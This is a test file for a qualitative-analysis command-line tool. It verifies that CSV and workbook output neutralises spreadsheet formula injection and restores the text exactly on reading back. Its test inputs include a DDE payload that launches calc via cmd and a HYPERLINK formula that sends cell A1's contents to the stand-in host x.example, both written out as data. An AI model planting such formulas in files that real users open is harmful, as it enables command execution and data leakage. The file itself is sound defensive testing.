import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { escapeFormula, toCsv, unescapeFormula } from '../src/write/csv.js';
import { cli, tempDir } from './helpers/cli.js';

describe('CSV formula injection', () => {
  it('guards every cell a spreadsheet would run as a formula reaching beyond the sheet, and no other', () => {
    // Functions (HYPERLINK, WEBSERVICE...), DDE commands and references to other files are guarded; arithmetic, names and text that only look like formulas are not.
    expect(toCsv([['=1+1', '+44 7700', '-2 staff', '-0.5000', '@SUM(A1)', '=HYPERLINK("x")', "-2+3+cmd|' /C calc'!A0", '\t=A1(', '@A3', '-A1', '- I now delegate', "'=kept(1)", "it's", 3, -4]])).toBe(
      `=1+1,+44 7700,-2 staff,-0.5000,'@SUM(A1),"'=HYPERLINK(""x"")",'-2+3+cmd|' /C calc'!A0,'\t=A1(,@A3,-A1,- I now delegate,''=kept(1),it's,3,-4\n`,
    );
  });

  it('undoes the guard exactly, whatever the cell, and leaves a text\'s own apostrophe alone', () => {
    for (const cell of ['=1', "'=1", "''=1", '=A(1)', "'=A(1)", "''=A(1)", "'", "'plain", '', '-', "'-", "''", 'a=b', "'-ish' is how I felt"]) {
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    }
    expect(unescapeFormula("'-ish' is how I felt")).toBe("'-ish' is how I felt");
  });

  it('writes a hostile account harmlessly and reads it back unchanged with grid', async () => {
    const dir = tempDir();
    const text = '=HYPERLINK("http://x.example/?"&A1,"click")';
    writeFileSync(join(dir, 'in.csv'), `participant,text,site\n@P1,"${text.replace(/"/g, '""')}",-North\n`);
    const out = join(dir, 'out');
    expect((await cli(['analyse', join(dir, 'in.csv'), '--out', out, '--unit', 'line'])).code).toBe(0);
    const segments = readFileSync(join(out, 'segments.csv'), 'utf8');
    expect(segments.split('\n')[1]).toBe(`@P1,1,0,43,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,EV,,cues:EV +0.37; length:1-3 +0.17; cues:OR=0 +0.17,,,-North`);
    expect(readFileSync(join(out, 'participants.csv'), 'utf8')).toContain('\n@P1,1,');
    const grid = await cli(['grid', join(out, 'segments.csv'), '--participant', '@P1']);
    expect(grid.stdout).toBe(`| Participant @P1 | Theme | Application of Labov |\n| --- | --- | --- |\n| ${text.replace('&A1', '&amp;A1')} |  | EV |\n`);
    // The review workbook holds the text as a text cell, exactly: Excel never runs it.
    const [header, row] = await readSheet(join(out, 'segments.xlsx'));
    expect(header.slice(0, 5)).toEqual(['participant', 'segment', 'start', 'end', 'text']);
    expect(row.slice(0, 5)).toEqual(['@P1', 1, 0, 43, text]);
  });

  it('writes IDs, texts and metadata that only look like formulas exactly, so pandas joins and slices them back', async () => {
    const dir = tempDir();
    const accounts = [['-A1', '- I now delegate the audits 😀 and it works. -Holding 1:1s helps too.', '-1.5e3'], ['@A3', '+ Staff pick the rota now 🎉, which is new.', '007']];
    writeFileSync(join(dir, 'in.csv'), `participant,text,band\n${accounts.map((cells) => cells.map((cell) => `"${cell}"`).join(',')).join('\n')}\n`);
    const out = join(dir, 'out');
    expect((await cli(['analyse', join(dir, 'in.csv'), '--out', out, '--no-report'])).code).toBe(0);
    const rows = parse(readFileSync(join(out, 'segments.csv'), 'utf8'), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows.length).toBeGreaterThan(3);
    for (const row of rows) {
      const [id, text, band] = accounts.find(([participant]) => participant === row.participant)!;
      expect([...text].slice(Number(row.start), Number(row.end)).join('')).toBe(row.text);
      expect(row.band).toBe(band);
      expect(id).toBe(row.participant);
    }
  });

  it('tabulates the review workbook, saved from a spreadsheet, as it tabulates segments.csv', async () => {
    const dir = tempDir();
    expect((await cli(['analyse', 'samples/accounts.csv', '--out', join(dir, 'out'), '--no-report'])).code).toBe(0);
    expect((await cli(['tabulate', join(dir, 'out', 'segments.xlsx'), '--out', join(dir, 'from-xlsx'), '--no-report'])).code).toBe(0);
    expect((await cli(['tabulate', join(dir, 'out', 'segments.csv'), '--out', join(dir, 'from-csv'), '--no-report'])).code).toBe(0);
    for (const file of ['themes.csv', 'structure.csv', 'codings.csv', 'participants.csv', 'theme-structure.csv']) {
      expect(readFileSync(join(dir, 'from-xlsx', file), 'utf8'), file).toBe(readFileSync(join(dir, 'from-csv', file), 'utf8'));
    }
  });
});

describe('only files reflect-code wrote are unescaped', () => {
  const texts = ["'-ish' is how I felt.", "'=SUM(A1) is a formula I typed.", '=1+1 is how staff see it.'];

  /** The texts of segments.csv, read back as tabulate reads them. */
  function segmentTexts(file: string): string[] {
    return readFileSync(file, 'utf8').split('\n').slice(1, -1).map((row) => row.split(',')[4]);
  }

  it('an input CSV keeps a leading apostrophe (as a .txt does), and segments.csv and a redacted copy give it back', async () => {
    const dir = tempDir();
    const input = join(dir, 'accounts.csv');
    writeFileSync(input, `participant,text\n${texts.map((text, i) => `A${i + 1},${text}`).join('\n')}\n`);
    const out = join(dir, 'out');
    expect((await cli(['analyse', input, '--out', out, '--unit', 'sentence', '--no-report', '--quiet', '--no-check'])).code).toBe(0);
    // Only the formula that reaches beyond the sheet is written guarded (one more apostrophe, which reading back removes); the others are written exactly.
    expect(segmentTexts(join(out, 'segments.csv'))).toEqual(["'-ish' is how I felt.", "''=SUM(A1) is a formula I typed.", '=1+1 is how staff see it.']);
    const grid = await cli(['grid', join(out, 'segments.csv'), '--participant', 'A1']);
    expect(grid.stdout).toContain(`| ${texts[0]} |`);
    const tabulated = await cli(['tabulate', join(out, 'segments.csv'), '--out', join(dir, 'tables'), '--accounts', input, '--no-report']);
    expect([tabulated.code, tabulated.stderr]).toEqual([0, '']);

    const redacted = join(dir, 'redacted');
    expect((await cli(['check', input, '--redact', '--out', redacted, '--quiet'])).code).toBe(0);
    const again = join(dir, 'again');
    expect((await cli(['analyse', join(redacted, 'accounts.csv'), '--out', again, '--unit', 'sentence', '--no-report', '--quiet', '--no-check'])).code).toBe(0);
    expect(readFileSync(join(again, 'segments.csv'), 'utf8')).toBe(readFileSync(join(out, 'segments.csv'), 'utf8'));
  });
});
